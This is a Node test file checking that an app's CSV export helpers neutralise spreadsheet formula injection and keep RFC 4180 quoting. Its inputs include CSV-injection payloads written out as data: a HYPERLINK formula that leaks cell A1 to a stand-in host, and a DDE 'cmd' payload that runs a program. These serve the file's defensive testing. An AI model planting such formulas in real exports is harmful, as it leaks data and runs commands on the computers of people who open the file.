// CSV injection: the app's CSV exports (util.js csvField, used by export.js) must not hand a
// spreadsheet a formula. Plain node, no browser: util.js touches the DOM only when called to.

import { test } from 'node:test';
import assert from 'node:assert/strict';
import { csvField, csv } from '../js/util.js';

test('cells that a spreadsheet would read as a formula get a leading quote', () => {
  assert.equal(csvField('=HYPERLINK("https://example.invalid/?x="&A1,"Klicka")'), `"'=HYPERLINK(""https://example.invalid/?x=""&A1,""Klicka"")"`);
  assert.equal(csvField('=1+2'), "'=1+2");
  assert.equal(csvField('+46701234567'), "'+46701234567");
  assert.equal(csvField('-1 lampa trasig'), "'-1 lampa trasig");
  assert.equal(csvField('-1+cmd|" /C calc"!A0'), `"'-1+cmd|"" /C calc""!A0"`);
  assert.equal(csvField('@SUM(A1:A9)'), "'@SUM(A1:A9)");
  assert.equal(csvField('\t=1'), "'\t=1");
  assert.equal(csvField('\r=1'), `"'\r=1"`);
});

test('a string that looks like a negative number is text: only JS numbers stay numbers', () => {
  assert.equal(csvField('-1'), "'-1");
  assert.equal(csvField('-12.5'), "'-12.5");
  assert.equal(csvField(-1), '-1');
  assert.equal(csvField(-2.25), '-2.25');
  assert.equal(csvField(0), '0');
  assert.equal(csvField(18.0686), '18.0686');
});

test('ordinary cells are unchanged and RFC 4180 quoting still applies', () => {
  assert.equal(csvField('Mörk gångväg'), 'Mörk gångväg');
  assert.equal(csvField('a, b'), '"a, b"');
  assert.equal(csvField('säger "hej"'), '"säger ""hej"""');
  assert.equal(csvField('rad 1\nrad 2'), '"rad 1\nrad 2"');
  assert.equal(csvField('x=1'), 'x=1');
  assert.equal(csvField(' =1'), ' =1');
  assert.equal(csvField(''), '');
  assert.equal(csvField(null), '');
  assert.equal(csvField(undefined), '');
  assert.equal(csvField(true), 'true');
  assert.equal(csvField({ a: 1 }), '"{""a"":1}"');
});

test('csv() neutralises every row, header included', () => {
  const text = csv(
    [
      { layer: 'reports', description: '=HYPERLINK("http://x","y")', bin: -2, z: -1.96 },
      { layer: 'reports', description: '-1 lampa trasig', bin: 0, z: null },
    ],
    ['layer', 'description', 'bin', 'z', '=evil'],
  );
  assert.equal(
    text,
    [
      `layer,description,bin,z,'=evil`,
      `reports,"'=HYPERLINK(""http://x"",""y"")",-2,-1.96,`,
      `reports,'-1 lampa trasig,0,,`,
      '',
    ].join('\r\n'),
  );
});
